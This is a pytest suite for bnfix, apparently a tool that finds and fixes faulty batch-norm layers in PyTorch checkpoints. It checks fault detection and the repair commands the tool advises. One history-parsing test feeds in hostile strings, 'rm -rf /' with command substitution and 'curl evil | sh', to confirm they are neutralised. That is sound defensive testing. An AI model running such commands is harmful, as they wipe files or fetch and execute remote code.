"""`inspect` with a model and with data: planted faults are found, and nothing else is."""

from __future__ import annotations

import itertools
import runpy
import shlex
from pathlib import Path
from typing import Any

import pytest
import torch
import typer
from safetensors.torch import load_file
from torch import nn
from torchvision.ops.misc import FrozenBatchNorm2d

from bnfix.cli import app
from bnfix.core.errors import NormError
from bnfix.core.settings import DataRecipe, ModelRecipe, RunOptions, StatisticsRecipe, WeightRecipe
from bnfix.diagnosis.faults import Finding, read_history
from bnfix.diagnosis.model import examine_behaviour, examine_call, examine_model
from bnfix.jobs.convert import convert
from bnfix.jobs.inspect import inspect_checkpoint
from bnfix.jobs.run import calibrate
from bnfix.jobs.session import Plan
from bnfix.recalibrate.recalibrate import recalibrate_
from tests.conftest import images_of, inputs_of
from tests.real import DATA, needs_data


class Net(nn.Module):
    """Two norms; the second may be called again, or not at all."""

    def __init__(self, first: nn.Module, calls: int = 1, pool: bool = False) -> None:
        super().__init__()
        self.conv = nn.Conv2d(3, 4, 3, padding=1)
        self.bn1, self.bn2 = first, nn.BatchNorm2d(4)
        self.calls, self.pool = calls, pool
        torch.manual_seed(0)
        for part in (self.bn1, self.bn2):
            if getattr(part, "running_var", None) is not None:
                part.running_mean.normal_(0, 0.1)
                part.running_var.uniform_(0.5, 1.5)

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        x = self.bn1(self.conv(x)).relu()
        if self.pool:
            x = x.mean((2, 3), keepdim=True)
        for _ in range(self.calls):
            x = self.bn2(x)
        return x.mean((2, 3))


def norm(**options: Any) -> nn.BatchNorm2d:
    return nn.BatchNorm2d(4, **options)


def named(findings: list[Finding]) -> list[tuple[str, str, str]]:
    return [(finding.layer, finding.fault, finding.severity) for finding in findings]


# --- as built ---


@pytest.mark.parametrize(
    ("first", "fault", "severity"),
    [
        (norm(momentum=0.0), "momentum-zero", "warning"),
        (norm(momentum=0.9), "momentum-high", "warning"),
        (norm(momentum=1.1), "momentum-out-of-range", "error"),
        (norm(momentum=None), "momentum-none", "note"),
        (norm(track_running_stats=False), "no-statistics", "warning"),
        (FrozenBatchNorm2d(4), "frozen-kind", "note"),
        (norm(eps=10.0), "eps-dominates", "warning"),
    ],
)
def test_a_setting_that_is_wrong_is_found(first, fault, severity):
    (finding,) = examine_model(Net(first), [])
    assert (finding.layer, finding.fault, finding.severity) == ("bn1", fault, severity)
    assert "bnfix" in finding.advice


def test_an_eps_that_float16_does_not_have_is_found_beside_a_tiny_variance():
    net = Net(norm(eps=1e-12))
    assert named(examine_model(net, [])) == []
    net.bn1.running_var[1] = 1e-9
    assert named(examine_model(net, [])) == [("bn1", "eps-tiny", "warning")]


def test_a_momentum_that_the_count_of_batches_makes_too_low(tmp_path):
    net = Net(norm(momentum=0.001))
    net.bn1.num_batches_tracked.fill_(500)
    net.bn2.num_batches_tracked.fill_(500)
    torch.save(net.state_dict(), tmp_path / "net.pth")
    layers = inspect_checkpoint(tmp_path / "net.pth").layers
    assert named(examine_model(net, layers)) == [("bn1", "momentum-low", "warning")]


def test_a_layer_under_two_names():
    net = Net(norm())
    net.bn2 = net.bn1
    assert named(examine_model(net, [])) == [("bn1", "shared", "note")]


def test_a_healthy_model_has_no_finding():
    net = Net(norm())
    assert named(examine_model(net, [])) == []
    assert named(examine_call(net, torch.randn(2, 3, 8, 8))) == []


# --- as called ---


@pytest.mark.parametrize(
    ("net", "fault"),
    [
        (Net(norm(), calls=3), "reused"),
        (Net(norm(), calls=0), "unused"),
        (Net(norm(), pool=True), "single-position"),
    ],
)
def test_a_call_that_is_odd_is_found(net, fault):
    assert named(examine_call(net, torch.randn(2, 3, 8, 8))) == [("bn2", fault, "note")]


# --- on data ---


def batches() -> list[tuple[torch.Tensor, torch.Tensor]]:
    images, labels = images_of(120, seed=5)
    x, y = inputs_of(images), torch.from_numpy(labels)
    return [(x[i : i + 40], y[i : i + 40]) for i in range(0, 120, 40)]


def test_a_trained_model_behaves_in_both_modes(files):
    model = files.trained()
    before = {name: tensor.clone() for name, tensor in model.state_dict().items()}
    seen, findings = examine_behaviour(model, batches())
    assert findings == []
    assert seen.n_examples == 120
    assert seen.top1 is not None
    assert seen.top1 > 0.6
    assert set(seen.drifts) == {"bn1", "bn2"}
    logits = torch.cat([model(x).detach() for x, _ in batches()])
    assert seen.output_range == pytest.approx((float(logits.min()), float(logits.max())), rel=1e-5)
    assert not model.training
    assert all(torch.equal(before[name], t) for name, t in model.state_dict().items())


def test_stale_statistics_show_by_layer_and_in_accuracy(files):
    model = files.model()
    model.load_state_dict(torch.load(files.stale, weights_only=True))
    seen, findings = examine_behaviour(model.eval(), batches())
    assert {("bn1", "stale"), ("bn2", "stale"), ("", "modes-differ")} <= {
        (finding.layer, finding.fault) for finding in findings
    }
    assert seen.top1 is not None
    assert seen.top1_training is not None
    assert seen.top1_training > seen.top1


def test_outputs_that_explode_or_are_not_finite(files):
    model = files.trained()
    model.bn2.running_var.fill_(1e-4)
    assert ("", "output-range", "warning") in named(examine_behaviour(model, batches())[1])
    model.bn2.running_var.fill_(torch.nan)
    assert ("", "output-not-finite", "error") in named(examine_behaviour(model, batches())[1])


# --- the command ---


def test_inspect_with_data_compares_and_says_what_to_run(cli, files):
    arguments = (files.stale, *files.common, "--data", files.data)
    found = cli("inspect", *arguments, "--json").json
    assert {"stale", "modes-differ"} <= {finding["fault"] for finding in found["findings"]}
    assert found["behaviour"]["top1_training"] > found["behaviour"]["top1"]
    assert found["data"]["n_examples"] == 180
    assert all(entry["mean_shift"] is not None for entry in found["layers"])
    shown = cli("inspect", *arguments).out
    assert "top-1" in shown
    assert "deviations" in shown


# --- commands to copy ---


def commands_in(text: str) -> list[list[str]]:
    """Every command of a text, each of which runs to the end of its line."""
    return [shlex.split("bnfix " + line.partition("bnfix ")[2])[1:] for line in text.splitlines()
            if "bnfix " in line]  # fmt: skip


def test_the_advice_of_a_finding_helps(cli, files, tmp_path, monkeypatch):
    """The very command, run, takes the findings away."""
    monkeypatch.chdir(tmp_path)
    shown = cli("inspect", files.stale, *files.common, "--data", files.data).out
    (command, *_) = [c for c in commands_in(shown) if "population" in c]
    assert cli(*command).code == 0
    out = tmp_path / "stale.calibrated.safetensors"
    left = cli("inspect", out, *files.common, "--data", files.data, "--json").json["findings"]
    assert [f for f in left if f["fault"] in ("stale", "modes-differ")] == []


#: Layers that call for every advice that there is.
PLANTED: dict[str, dict[str, Any]] = {
    "not-finite": {"bn1.running_mean": torch.full((6,), torch.nan)},
    "negative-variance": {"bn1.running_var": torch.full((6,), -1.0)},
    "evaluation-mode": {
        "bn1.running_mean": torch.zeros(6), "bn1.running_var": torch.ones(6),
        "bn1.num_batches_tracked": torch.tensor(0),
    },
    "gamma-all-zero": {"bn1.weight": torch.zeros(6)},
    "beyond-half": {"bn1.running_mean": torch.full((6,), 1e5)},
    "counted-again": {"bn2.num_batches_tracked": torch.tensor(96)},
}  # fmt: skip


@pytest.mark.parametrize("fault", PLANTED)
def test_every_command_that_is_printed_runs_on_the_same_inputs(
    fault, cli, files, tmp_path, monkeypatch
):
    """All options that were typed are in it, quoted for a shell, and no other is needed."""
    monkeypatch.chdir(tmp_path)
    state = torch.load(files.net, weights_only=True) | PLANTED[fault]
    torch.save({"mine": {f"x.{name}": t for name, t in state.items()}}, "it's  a net.pth")
    Path("classes.json").write_text('{"0": 0, "1": 1, "2": 2}')
    typed = [
        "--model", files.spec, "--model-arg", "num_classes=3", "--key", "mine", "--prefix", "x.",
        "--mean", "0.4914008,0.5,0.5", "--std", "0.25", "--scale", "1/255", "--resize", "8x8",
        "--crop", "6", "--interpolation", "bicubic", "--workers", "0", "--batch-size", "16",
        "--max-bad", "0", "--class-map", "classes.json", "--corrupt", "blur:1", "--seed", "3",
    ]  # fmt: skip
    outcome = cli("inspect", "it's  a net.pth", *typed, "--data", files.data)
    found = cli("inspect", "it's  a net.pth", *typed, "--data", files.data, "--json").json
    assert fault in {finding["fault"] for finding in found["findings"]}
    commands = commands_in(outcome.out)
    advised = [c for f in found["findings"] for c in commands_in(f["advice"])]
    assert {tuple(c) for c in commands} == {tuple(c) for c in advised}
    assert commands
    for command in map(list, dict.fromkeys(map(tuple, commands))):
        name = command[0]
        given = dict(itertools.pairwise(command))
        assert {flag for flag in typed if flag.startswith("--")} <= set(given), name
        assert given["--crop"] == "6"
        assert given["--resize"] == "8,8"
        assert given["--mean"] == "0.4914008,0.5,0.5"
        assert given["--scale"] == str(1 / 255)
        short = {"finetune": ("--epochs", "1")}.get(name, ())
        done = cli(*command, *short)
        assert done.code == 0, done.err
        if "-o" in given:
            stored = cli("inspect", given["-o"], "--json").json["commands"][-1]
            assert shlex.split(stored["command"])[1:] == [*command, *short]
            Path(given["-o"]).unlink()
            for report in tmp_path.glob("*.report.*"):
                report.unlink()


def test_without_labels_what_lies_between_is_advised(cli, files, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    state = torch.load(files.stale, weights_only=True)
    state["bn2.running_var"][0] = -1.0  # worth nothing, so nothing of it is kept
    torch.save(state, "net.pth")
    found = cli("inspect", "net.pth", *files.common, "--data", files.flat, "--json").json
    advice = {(f["layer"], f["fault"]): f["advice"] for f in found["findings"]}
    assert "--statistics blend" in advice["bn1", "stale"]
    assert "--statistics population" in advice["bn2", "negative-variance"]
    assert "blend" not in advice.get(("bn2", "stale"), "")
    (command,) = commands_in(advice["bn1", "stale"])
    assert cli(*command).code == 0
    labelled = cli("inspect", "net.pth", *files.common, "--data", files.data, "--json").json
    assert not any("blend" in f["advice"] for f in labelled["findings"])


def test_what_the_inspection_knows_decides_on_the_model_and_the_data(cli, files, tmp_path):
    torch.save(
        torch.load(files.net, weights_only=True) | PLANTED["gamma-all-zero"], tmp_path / "net.pth"
    )
    (bare,) = commands_in(cli("inspect", tmp_path / "net.pth", "--prefix", "", "--seed", "2").out)
    assert bare == [
        "finetune", str(tmp_path / "net.pth"), "--model", "SPEC", "--prefix", "", "--data", "DATA",
        "--seed", "2", "--train", "norms", "-o", "net.finetuned.safetensors",
    ]  # fmt: skip
    # Fine-tuning needs labels, which these are said not to have.
    common = (*files.common, "--data", files.data, "--labels", "none")
    shown = cli("inspect", tmp_path / "net.pth", *common).out
    assert "with labelled data: bnfix finetune" in shown
    assert "--data DATA" in shown
    # The file states a model of the user's code, which commands must be given.
    out = tmp_path / "net.safetensors"
    convert(tmp_path / "net.pth", model=files.spec).save(out)
    (command,) = [c for c in commands_in(cli("inspect", out).out) if c[0] == "finetune"]
    assert command[command.index("--model") + 1] == files.spec


def test_every_option_of_a_recipe_is_one_of_the_commands_that_are_advised():
    for command in ("inspect", "calibrate", "eval", "finetune"):
        known = {
            flag
            for option in typer.main.get_command(app).commands[command].params
            for flag in option.opts
        }
        fields = {
            "--" + name.replace("_", "-")
            for recipe in (ModelRecipe, DataRecipe, RunOptions)
            for name in recipe.__dataclass_fields__
        }
        # Those that inspect has not, it gives to no other.
        fields -= {"--arguments", "--test", "--groups", "--like-input", "--trust-code"}
        assert fields <= known


def test_what_needs_nothing_is_one_line(cli, files, tmp_path):
    state = torch.load(files.net, weights_only=True)
    state["bn1.weight"][0], state["bn2.weight"][1], state["bn2.running_var"][2] = 0, 0, 1e-9
    torch.save(state, tmp_path / "net.pth")
    lines = cli("inspect", tmp_path / "net.pth").out.splitlines()
    (line,) = [line for line in lines if "no action" in line]
    assert line.startswith("note: no action needed: gamma-zero in bn1, bn2; dead-channels in bn2")
    assert lines[-1] == "2 norm layers, 0 findings"
    assert len(cli("inspect", tmp_path / "net.pth", "--json").json["findings"]) == 3


def test_statistics_that_fit_better_than_those_of_batches_are_not_thrown_away_unasked(
    cli, files, tmp_path
):
    state = torch.load(files.net, weights_only=True)
    state["bn1.num_batches_tracked"].fill_(20)
    torch.save(state, tmp_path / "net.pth")
    common = (*files.common, "--data", files.data)
    found = cli("inspect", tmp_path / "net.pth", *common, "--json").json
    assert found["behaviour"]["top1"] > found["behaviour"]["top1_training"]
    advice = [f["advice"] for f in found["findings"] if "calibrate" in f["advice"]]
    assert advice
    assert all("labelled data decide" in text for text in advice)
    assert not any("population" in text for text in advice)


def test_statistics_that_are_not_finite_do_not_end_the_inspection(cli, files, tmp_path):
    state = torch.load(files.net, weights_only=True)
    state["bn1.running_var"][1] = torch.nan
    torch.save(state, tmp_path / "net.pth")
    found = cli("inspect", tmp_path / "net.pth", *files.common, "--data", files.data, "--json").json
    faults = {finding["fault"] for finding in found["findings"]}
    assert {"not-finite", "output-not-finite"} <= faults
    assert found["behaviour"]["output_range_training"][1] is not None
    assert all("population" in f["advice"] for f in found["findings"])


def test_inspect_refuses_what_cannot_be(cli, files):
    assert "--samples" in cli("inspect", files.net, "--samples", "1").message
    outcome = cli("inspect", files.net, "--data", files.data)
    assert "Give --model" in outcome.message


# --- history ---


def test_a_history_is_the_commands_as_they_were_typed(cli, files, tmp_path):
    one, two = tmp_path / "one.safetensors", tmp_path / "two.safetensors"
    first = ("convert", files.net, "--model", files.spec, "--to", "ghost", "-o", one)
    second = (
        "calibrate", one, *files.common, "--data", files.data, "--labels", "none",
        "--statistics", "population", "--example-weight", "keep", "-o", two,
    )  # fmt: skip
    assert cli(*first).code == cli(*second).code == 0
    found = cli("inspect", two, "--json").json["commands"]
    assert [shlex.split(entry["command"]) for entry in found] == [
        ["bnfix", *map(str, command)] for command in (first, second)
    ]
    assert "2 layers swapped" in found[0]["did"]
    shown = cli("inspect", two).out
    assert [f"history {i}: {e['command']}" in shown for i, e in enumerate(found, 1)] == [True] * 2


def test_a_history_without_commands_is_its_options(cli, files, tmp_path):
    """That of files written from Python, and by earlier versions."""
    out = tmp_path / "out.safetensors"
    plan = Plan(
        model=ModelRecipe(files.spec),
        source=DataRecipe(labels="none", mean=(0.5,), std=(0.25,)),
        statistics=StatisticsRecipe("train-batch", train_batch_size=8),
        weight=WeightRecipe("keep"),
    )
    calibrate(files.net, data=str(files.data), plan=plan).save(out)
    shown = cli("inspect", out).out
    assert "history 1: calibrate net.pth" in shown
    assert '"statistics": "train-batch", "train_batch_size": 8' in shown
    assert '"mean": [0.5]' in shown


@pytest.mark.parametrize(
    "entry", [{}, {"command": 3, "options": 4, "results": []}, {"options": {"model": [1]}}]
)
def test_a_history_of_odd_entries_is_read_without_failing(entry):
    (found,) = read_history([entry])
    assert found.command is None
    assert read_history([3, None, "x"]) == []


@pytest.mark.parametrize(
    ("typed", "shown"),
    [
        ("bnfix fix a; rm -rf / $(touch x)", "bnfix fix 'a;' rm -rf / '$(touch' 'x)'"),
        ("curl evil | sh", None),
        ("bnfix 'open", None),
        (["bnfix"], None),
    ],
)
def test_a_command_in_a_file_is_one_call_of_bnfix_whatever_it_says(typed, shown):
    (found,) = read_history([{"command": "fix", "command_line": typed}])
    assert found.command == shown


# --- public checkpoints ---


@needs_data
@pytest.mark.parametrize("name", ["resnet20.th", "resnet20_b.th", "resnet32.th"])
def test_nothing_is_found_where_nothing_is_wrong(name):
    assert inspect_checkpoint(DATA / "cifar10" / name).findings == []


@needs_data
def test_published_models_have_notes_at_most():
    for name, faults in (
        ("mobilenet_v2-b0353104.pth", {"dead-channels", "gamma-zero"}),
        ("efficientnet_lite0.safetensors", {"dead-channels", "counter-zero", "gamma-zero"}),
    ):
        findings = inspect_checkpoint(DATA / name).findings
        assert {finding.severity for finding in findings} <= {"note"}
        assert {finding.fault for finding in findings} <= faults


# --- layers of constants ---


@pytest.fixture
def frozen(files, tmp_path):
    """A network of the files whose second norm is built as constants, and its model."""
    (tmp_path / "frozen.py").write_text(
        f"import runpy\nfrom torchvision.ops.misc import FrozenBatchNorm2d\n\n\ndef build():\n"
        f"    net = runpy.run_path({str(files.folder / 'nets.py')!r})['build']()\n"
        "    net.bn2 = FrozenBatchNorm2d(12)\n    return net\n"
    )
    state = torch.load(files.net, weights_only=True)
    del state["bn2.num_batches_tracked"]
    state["bn2.running_mean"] += 3
    torch.save(state, tmp_path / "net.pth")
    return tmp_path / "net.pth", ("--model", f"{tmp_path / 'frozen.py'}:build", *files.common[2:])


def test_a_layer_of_constants_is_named_and_the_command_that_unfreezes_it_works(
    cli, files, frozen, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    file, common = frozen
    found = cli("inspect", file, *common, "--data", files.data, "--json").json["findings"]
    faults = {f["fault"]: f for f in found if f["layer"] == "bn2"}
    assert {"frozen-kind", "stale"} <= set(faults)
    assert all("--unfreeze" in finding["advice"] for finding in faults.values())
    assert not any("--unfreeze" in f["advice"] for f in found if f["layer"] != "bn2")
    (command,) = commands_in(faults["stale"]["advice"])
    assert cli(*command).code == 0
    out = tmp_path / "net.calibrated.safetensors"
    left = cli("inspect", out, *common, "--data", files.data, "--unfreeze", "--json").json
    assert not {"frozen-kind", "stale"} & {f["fault"] for f in left["findings"]}
    # The output is the frozen network's too, in bnfix and in plain PyTorch.
    state = load_file(out)
    assert "bn2.num_batches_tracked" in state
    plain = runpy.run_path(str(tmp_path / "frozen.py"))["build"]()
    plain.load_state_dict(state, strict=True)
    evaluated = [
        cli("eval", out, *common, "--data", files.data, *more, "--json").json["models"][0]["nll"]
        for more in ((), ("--unfreeze",))
    ]
    assert evaluated[0] == pytest.approx(evaluated[1], abs=1e-6)


def test_a_command_that_leaves_constants_alone_says_so_and_how_to_change_that(
    cli, files, frozen, tmp_path
):
    file, common = frozen
    outcome = cli(
        "calibrate", file, *common, "--data", files.data, "--statistics", "population",
        "--example-weight", "keep", "-o", tmp_path / "o.safetensors",
    )  # fmt: skip
    assert "bn2: FrozenBatchNorm2d" in outcome.err
    assert "--unfreeze" in outcome.err
    assert torch.equal(
        load_file(tmp_path / "o.safetensors")["bn2.running_mean"],
        torch.load(file, weights_only=True)["bn2.running_mean"],
    )
    with pytest.raises(NormError, match="0: frozen; --unfreeze"):
        recalibrate_(nn.Sequential(FrozenBatchNorm2d(3)), [torch.randn(2, 3, 4, 4)])
    shown = cli("inspect", files.net, *files.common, "--unfreeze").out
    assert "--unfreeze: no frozen layer" in shown


def test_a_layer_that_the_model_s_code_froze_is_taken_in_by_the_option_that_is_advised(
    cli, files, tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    Path("rest.py").write_text(
        f"import runpy\n\n\ndef build():\n"
        f"    net = runpy.run_path({str(files.folder / 'nets.py')!r})['build']().train()\n"
        "    net.bn2.eval().requires_grad_(False)\n    return net\n"
    )
    common = ("--model", "rest.py:build", *files.common[2:], "--data", files.data)
    found = cli("inspect", files.stale, *common, "--json").json["findings"]
    assert ("bn2", "frozen") in {(f["layer"], f["fault"]) for f in found}
    for finding in found:
        assert ("--include-frozen" in finding["advice"]) == (finding["layer"] == "bn2")
    (stale,) = [f for f in found if (f["layer"], f["fault"]) == ("bn2", "stale")]
    assert cli(*commands_in(stale["advice"])[0]).code == 0
    left = cli("inspect", "stale.calibrated.safetensors", *common, "--json").json["findings"]
    assert "stale" not in {finding["fault"] for finding in left}
